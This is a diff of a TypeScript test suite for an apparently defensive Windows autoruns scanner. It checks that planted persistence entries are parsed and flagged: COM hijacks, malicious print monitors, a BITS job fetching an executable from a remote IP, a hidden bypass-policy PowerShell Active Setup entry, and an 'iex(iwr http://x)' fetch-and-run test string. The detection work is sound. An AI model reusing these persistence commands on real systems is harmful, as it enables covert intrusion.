@@ -25,8 +25,11 @@ interface Run {
   stderrLog: string;
 }
 
-function runAutoruns(host: string): Run {
-  return runWindowsStep('autoruns', { fixtureDir: join(FIXTURES, 'windows', 'autoruns', host), fakes: [join(FIXTURES, 'windows', 'fakes.ps1')], schema: AutorunRecord });
+// BITS: bits-fakes.ps1 answers Get-BitsTransfer from Get-BitsTransfer.json and bitsadmin from
+// bitsadmin.txt, each only where the host has that file.
+const BITS_FAKES = join(FIXTURES, 'windows', 'autoruns', 'bits-fakes.ps1');
+function runAutoruns(host: string, dir = join(FIXTURES, 'windows', 'autoruns', host), bits = true): Run {
+  return runWindowsStep('autoruns', { fixtureDir: dir, fakes: [join(FIXTURES, 'windows', 'fakes.ps1'), ...(bits ? [BITS_FAKES] : [])], schema: AutorunRecord });
 }
 
 let run: Run;
@@ -101,9 +104,10 @@ test('launchers: regsvr32 /i:file, a bare name through the machine Path, wscript
 });
 
 test('a svchost service\'s image is its ServiceDll (svchost kept as the launcher); drivers that can load, \\??\\ resolved, disabled ones left out', () => {
-  assert.equal(image(entry('LicenseManager')), { imagePath: 'C:\\WINDOWS\\System32\\LicenseManagerSvc.dll', launcher: 'C:\\WINDOWS\\system32\\svchost.exe', imageExists: true, signed: true });
-  assert.equal(image(entry('WinUpdSvc')), { imagePath: 'C:\\ProgramData\\WinUpd\\wupd.dll', launcher: 'C:\\WINDOWS\\system32\\svchost.exe', imageExists: true, signed: false });
-  assert.is(entry('WinUpdSvc').launchString, 'C:\\WINDOWS\\system32\\svchost.exe -k netsvcs');
+  const SVC = 'HKLM\\System\\CurrentControlSet\\Services';
+  assert.equal(image(entry('LicenseManager', SVC)), { imagePath: 'C:\\WINDOWS\\System32\\LicenseManagerSvc.dll', launcher: 'C:\\WINDOWS\\system32\\svchost.exe', imageExists: true, signed: true });
+  assert.equal(image(entry('WinUpdSvc', SVC)), { imagePath: 'C:\\ProgramData\\WinUpd\\wupd.dll', launcher: 'C:\\WINDOWS\\system32\\svchost.exe', imageExists: true, signed: false });
+  assert.is(entry('WinUpdSvc', SVC).launchString, 'C:\\WINDOWS\\system32\\svchost.exe -k netsvcs');
   const drivers = run.records.filter((r) => r.category === 'Drivers');
   assert.equal(drivers.map((r) => [r.entry, r.imagePath, r.signed]), [
     ['ACPI', 'C:\\WINDOWS\\system32\\drivers\\ACPI.sys', true],
@@ -212,6 +216,161 @@ test('persistence beyond Run keys: IFEO debuggers and SilentProcessExit monitors
   assert.equal([script.consumerType, script.scriptingEngine, script.enabled, script.imagePath], ['ActiveScript', 'VBScript', false, null]);
   assert.match(script.launchString, /WScript\.Shell/);
   assert.not.ok(run.records.some((r) => r.entry === 'SCM Event Log Consumer'), 'Windows\' own event-log consumer runs nothing');
+});
+
+// ---- issue 13: Winlogon Notify and Taskman, print monitors and providers, COM hijacks, BITS notify
+// commands, Active Setup, service failure commands ----------------------------------------------
+const fires = (rules: ReturnType<typeof loadRules>, r: any) => {
+  const rec = { ...r, facts: deriveFacts('autorun', r) };
+  return rules.filter((x) => x.def.logsource.category === 'autorun' && x.match(rec)).map((x) => `${x.def.level} ${x.def.id}`).sort();
+};
+const NEW_RULES = ['magpie-autorun-bits-notify', 'magpie-autorun-bits-notify-script', 'magpie-autorun-com-hijack', 'magpie-autorun-system-loader-suspicious'];
+const row = (r: any) => [r.entry, r.launchString, r.imagePath, r.launcher, r.signed, r.enabled, r.profile];
+const WINLOGON = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
+const PRINT = 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print';
+
+test('Winlogon: Taskman is one program (not a list); each Notify package\'s DllName, a bare name loaded from System32', () => {
+  assert.equal(image(entry('Taskman')), { imagePath: 'C:\\Program Files\\Sysinternals\\procexp64.exe', launcher: null, imageExists: true, signed: true });
+  assert.is(entry('Taskman').location, WINLOGON);
+  const notify = run.records.filter((r) => r.category === 'Winlogon Notify');
+  assert.equal(notify.map((r) => [r.location, ...row(r)]), [
+    [`${WINLOGON}\\Notify\\WgaLogon`, 'WgaLogon', 'WgaLogon.dll', 'C:\\WINDOWS\\System32\\WgaLogon.dll', null, true, true, 'System-wide'],
+    [`${WINLOGON}\\Notify\\SysHealth`, 'SysHealth', 'C:\\ProgramData\\SysHealth\\shlogon.dll', 'C:\\ProgramData\\SysHealth\\shlogon.dll', null, false, true, 'System-wide'],
+  ]);
+});
+
+test('print monitors (Driver) and print providers (Name): the DLL by name in System32, a full path kept', () => {
+  assert.equal(run.records.filter((r) => r.category === 'Print Monitors').map((r) => [r.location, r.entry, r.imagePath, r.signed]), [
+    [`${PRINT}\\Monitors\\Local Port`, 'Local Port', 'C:\\WINDOWS\\System32\\localspl.dll', true],
+    [`${PRINT}\\Monitors\\Standard TCP/IP Port`, 'Standard TCP/IP Port', 'C:\\WINDOWS\\System32\\tcpmon.dll', true],
+    [`${PRINT}\\Monitors\\Print Helper`, 'Print Helper', 'C:\\ProgramData\\PrintSvc\\prnhelp.dll', false],
+    [`${PRINT}\\Monitors\\AppMon`, 'AppMon', 'C:\\WINDOWS\\System32\\appmon64.dll', false],
+  ]);
+  assert.equal(run.records.filter((r) => r.category === 'Print Providers').map((r) => [r.entry, r.launchString, r.imagePath, r.signed]), [
+    ['Internet Print Provider', 'inetpp.dll', 'C:\\WINDOWS\\System32\\inetpp.dll', true],
+    ['LanMan Print Services', 'win32spl.dll', 'C:\\WINDOWS\\System32\\win32spl.dll', true],
+  ]);
+});
+
+test('COM hijacks: a user class overriding a machine CLSID (the user\'s _Classes hive, or Software\\Classes), with the machine\'s server beside it; a user-only class is not one', () => {
+  const com = run.records.filter((r) => r.category === 'COM hijacks');
+  assert.equal(com.map((r) => [r.location, r.entry, r.imagePath, r.signed, r.profile, r.comServerKind, r.machineServer, r.machineImagePath, r.machineSigned]), [
+    [`HKU\\${ENTRA}_Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32`, '{BCDE0395-E52F-467C-8E3D-C4579291692E}',
+      'C:\\Users\\ana.silva\\AppData\\Roaming\\Microsoft\\Windows\\mmdevapi.dll', false, ENTRA, 'InprocServer32', '%SystemRoot%\\System32\\MMDevApi.dll', 'C:\\WINDOWS\\System32\\MMDevApi.dll', true],
+    [`HKU\\${KIOSK}\\Software\\Classes\\CLSID\\{0002DF01-0000-0000-C000-000000000046}\\LocalServer32`, '{0002DF01-0000-0000-C000-000000000046}',
+      'C:\\Users\\kiosk\\AppData\\Local\\Temp\\iexplore.exe', false, KIOSK, 'LocalServer32', '"C:\\Program Files\\Internet Explorer\\iexplore.exe"', 'C:\\Program Files\\Internet Explorer\\iexplore.exe', true],
+  ]);
+  assert.is(com[0].launchString, '%APPDATA%\\Microsoft\\Windows\\mmdevapi.dll', 'as written; expanded with the user\'s own %APPDATA%');
+  assert.match(com[0].description, /MMDeviceEnumerator class/);
+  assert.not.ok(run.records.some((r) => r.entry === '{A0396A93-DC06-4AEF-BEE9-95FFCCAEF20E}'), 'OneDrive\'s per-user class overrides nothing');
+});
+
+test('BITS: jobs with a notify command line (Get-BitsTransfer -AllUsers), the program then the parameters after their first word; jobs without one are not autostarts', () => {
+  const bits = run.records.filter((r) => r.category === 'BITS jobs');
+  assert.equal(bits.map((r) => [...row(r), r.bitsJobState, r.bitsTransferType, r.time]), [
+    ['Windows Update Check', 'C:\\Windows\\System32\\cmd.exe /c C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Windows\\System32\\cmd.exe', false, true, 'CORP\\ana.silva', 'Error', 'Download', '2025-11-20T03:10:42.000Z'],
+    ['Contoso Agent update', '"C:\\Program Files (x86)\\Contoso\\Agent\\cupdate.exe" /apply', 'C:\\Program Files (x86)\\Contoso\\Agent\\cupdate.exe', null, true, true, 'NT AUTHORITY\\SYSTEM', 'Transferred', 'Download', '2025-11-18T21:06:40.000Z'],
+  ]);
+  assert.equal(bits[0].bitsFiles, ['http://203.0.113.45/wu.exe -> C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe']);
+  assert.is(bits[0].bitsJobId, '8a2f6c3e-4b1d-4e7a-9f0c-2d5e8b1a7c34');
+  assert.not.ok(run.records.some((r) => r.entry === 'Font Download'));
+});
+
+test('BITS without the BitsTransfer module: bitsadmin /list /allusers /verbose is read instead; with neither, a warning and no made-up record', () => {
+  const dir = join(FIXTURES, 'windows', 'autoruns', 'bits-admin');
+  const viaAdmin = runAutoruns('bits-admin', dir);
+  assert.is(viaAdmin.summary.status, 'ok', viaAdmin.stderrLog);
+  assert.equal(viaAdmin.records.map((r) => [...row(r), r.bitsJobId, r.bitsJobState, r.bitsFiles]), [
+    ['Windows Update Check', 'C:\\Windows\\System32\\cmd.exe /c C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Windows\\System32\\cmd.exe', null, true, 'CORP\\ana.silva',
+      '{8A2F6C3E-4B1D-4E7A-9F0C-2D5E8B1A7C34}', 'ERROR', ['http://203.0.113.45/wu.exe -> C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe']],
+  ]);
+  const none = runAutoruns('bits-admin', dir, false);
+  assert.equal([none.summary.status, none.summary.errors, none.records.length], ['ok', 0, 0]);
+  assert.match(none.stderrLog, /\[warning\] BITS jobs not read: neither the BitsTransfer module nor bitsadmin\.exe is available/);
+});
+
+test('Active Setup: every component with a StubPath (Wow6432Node too), IsInstalled 0 is enabled false, a component without StubPath is none', () => {
+  const as = run.records.filter((r) => r.category === 'Active Setup');
+  assert.equal(as.map((r) => [r.componentId, ...row(r)]), [
+    ['{6BF52A52-394A-11d3-B153-00C04F79FAA6}', 'Microsoft Windows Media Player', '%SystemRoot%\\system32\\unregmp2.exe /FirstLogon', 'C:\\WINDOWS\\system32\\unregmp2.exe', null, true, true, 'System-wide'],
+    ['{7A3C5E91-2B4D-4F6A-9C8E-1D2F3A4B5C6D}', 'Microsoft Edge Update', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -ep bypass -File C:\\Users\\Public\\Libraries\\edgeupd.ps1',
+      'C:\\Users\\Public\\Libraries\\edgeupd.ps1', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', false, true, 'System-wide'],
+    ['{2C7339CF-2B09-4501-B3F3-F3508C9228ED}', 'Themes Setup', 'C:\\Users\\Public\\theme.exe', 'C:\\Users\\Public\\theme.exe', null, null, false, 'System-wide'],
+    ['{89B4C1CD-B018-4511-B0A1-5476DBF70820}', '.NET Framework', 'C:\\Windows\\SysWOW64\\Rundll32.exe C:\\Windows\\SysWOW64\\mscories.dll,Install', 'C:\\Windows\\SysWOW64\\mscories.dll', 'C:\\Windows\\SysWOW64\\Rundll32.exe', true, true, 'System-wide'],
+  ]);
+  assert.match(as[3].location, /^HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Active Setup\\Installed Components\\/);
+  assert.is(as[0].componentVersion, '12,0,19041,1');
+});
+
+test('service failure commands: FailureCommand, enabled only when FailureActions holds a run-command action (type 3); an empty one is none', () => {
+  const fail = run.records.filter((r) => r.category === 'Service failure');
+  assert.equal(fail.map((r) => [r.location, ...row(r)]), [
+    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\LicenseManager', 'LicenseManager', 'wscript.exe C:\\Users\\Public\\lm.vbs', 'C:\\Users\\Public\\lm.vbs', 'C:\\WINDOWS\\System32\\wscript.exe', null, false, 'NT Authority\\LocalService'],
+    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinUpdSvc', 'WinUpdSvc', 'C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\WinUpd\\winupd.exe -r', 'C:\\ProgramData\\WinUpd\\winupd.exe', 'C:\\Windows\\System32\\cmd.exe', false, true, 'LocalSystem'],
+  ]);
+  assert.match(fail[1].description, /run a command after the subsequent failure/);
+  assert.match(fail[0].description, /no FailureActions entry runs it/);
+  assert.not.ok(run.records.some((r) => r.category === 'Service failure' && r.entry === 'Spooler'));
+});
+
+test('rules: the planted entries are flagged high (BITS through cmd, a user COM DLL, a print monitor and a Notify DLL in ProgramData, an unsigned monitor in System32, a PowerShell StubPath, a failure command from ProgramData); Windows\' own are not', () => {
+  const rules = loadRules();
+  const ours = (r: any) => fires(rules, r).filter((h) => NEW_RULES.includes(h.split(' ')[1]));
+  const got = Object.fromEntries(
+    run.records.filter((r) => ['Winlogon Notify', 'Print Monitors', 'Print Providers', 'COM hijacks', 'BITS jobs', 'Active Setup', 'Service failure'].includes(r.category)).map((r) => [`${r.category}: ${r.entry}`, ours(r)]),
+  );
+  assert.equal(got, {
+    'Winlogon Notify: WgaLogon': [],
+    'Winlogon Notify: SysHealth': ['high magpie-autorun-system-loader-suspicious'],
+    'Print Monitors: Local Port': [],
+    'Print Monitors: Standard TCP/IP Port': [],
+    'Print Monitors: Print Helper': ['high magpie-autorun-system-loader-suspicious'],
+    'Print Monitors: AppMon': ['high magpie-autorun-system-loader-suspicious'],
+    'Print Providers: Internet Print Provider': [],
+    'Print Providers: LanMan Print Services': [],
+    'COM hijacks: {BCDE0395-E52F-467C-8E3D-C4579291692E}': ['high magpie-autorun-com-hijack'],
+    'COM hijacks: {0002DF01-0000-0000-C000-000000000046}': ['high magpie-autorun-com-hijack'],
+    'BITS jobs: Windows Update Check': ['high magpie-autorun-bits-notify-script'],
+    'BITS jobs: Contoso Agent update': ['medium magpie-autorun-bits-notify'],
+    'Active Setup: Microsoft Windows Media Player': [],
+    'Active Setup: Microsoft Edge Update': ['high magpie-autorun-system-loader-suspicious'],
+    // Switched off (IsInstalled 0; no failure action runs the command): not this rule's.
+    'Active Setup: Themes Setup': [],
+    'Active Setup: .NET Framework': [],
+    'Service failure: WinUpdSvc': ['high magpie-autorun-system-loader-suspicious'],
+    'Service failure: LicenseManager': [],
+  });
+  // The same BITS job read through bitsadmin (no signature known) is judged the same.
+  const viaAdmin = runAutoruns('bits-admin', join(FIXTURES, 'windows', 'autoruns', 'bits-admin'));
+  assert.equal(ours(viaAdmin.records[0]), ['high magpie-autorun-bits-notify-script']);
+  // A script host anywhere, or a program in a user folder, is high; anything else medium.
+  const job = (launchString: string, imagePath: string, signed: boolean) => ({ location: 'BITS', entry: 'j', category: 'BITS jobs', launchString, imagePath, signed, imageExists: true });
+  assert.equal(ours(job('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c "iex(iwr http://x)"', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', true)), ['high magpie-autorun-bits-notify-script']);
+  assert.equal(ours(job('C:\\Users\\bob\\AppData\\Roaming\\u.exe', 'C:\\Users\\bob\\AppData\\Roaming\\u.exe', true)), ['high magpie-autorun-bits-notify-script']);
+  assert.equal(ours(job('C:\\Program Files\\Vendor\\apply.exe', 'C:\\Program Files\\Vendor\\apply.exe', true)), ['medium magpie-autorun-bits-notify']);
+});
+
+test('healthy server: Windows\' own print monitors, providers and Active Setup components, services without a failure command and BITS jobs without a notify command give nothing', () => {
+  const healthy = runAutoruns('healthy-server', join(FIXTURES, 'windows', 'healthy-server'));
+  assert.is(healthy.summary.status, 'ok', healthy.stderrLog);
+  const mine = healthy.records.filter((r) => ['Winlogon Notify', 'Print Monitors', 'Print Providers', 'COM hijacks', 'BITS jobs', 'Active Setup', 'Service failure'].includes(r.category));
+  assert.equal(mine.filter((r) => r.category === 'Print Monitors').map((r) => [r.entry, r.imagePath, r.signed]), [
+    ['Local Port', 'C:\\Windows\\System32\\localspl.dll', true],
+    ['Standard TCP/IP Port', 'C:\\Windows\\System32\\tcpmon.dll', true],
+    ['USB Monitor', 'C:\\Windows\\System32\\usbmon.dll', true],
+    ['WSD Port', 'C:\\Windows\\System32\\APMon.dll', true],
+  ]);
+  assert.equal(mine.filter((r) => r.category === 'Active Setup').map((r) => [r.entry, r.imagePath, r.signed, r.enabled]), [
+    ['Themes Setup', 'C:\\Windows\\system32\\themeui.dll', true, true],
+    ['Microsoft Windows Media Player', 'C:\\Windows\\system32\\unregmp2.exe', true, true],
+    ['Internet Explorer', 'C:\\Windows\\System32\\ie4uinit.exe', true, true],
+    ['Internet Explorer Enhanced Security Configuration', 'C:\\Windows\\System32\\iesetup.dll', true, true],
+    ['Internet Explorer Enhanced Security Configuration', 'C:\\Windows\\System32\\iesetup.dll', true, false],
+    ['.NET Framework', 'C:\\Windows\\SysWOW64\\mscories.dll', true, true],
+  ]);
+  assert.equal(mine.filter((r) => ['BITS jobs', 'Service failure', 'COM hijacks', 'Winlogon Notify'].includes(r.category)), []);
+  const rules = loadRules();
+  assert.equal(mine.flatMap((r) => fires(rules, r).map((h) => `${h}: ${r.entry}`)), [], 'no rule, at any level');
 });
 
 test.run();
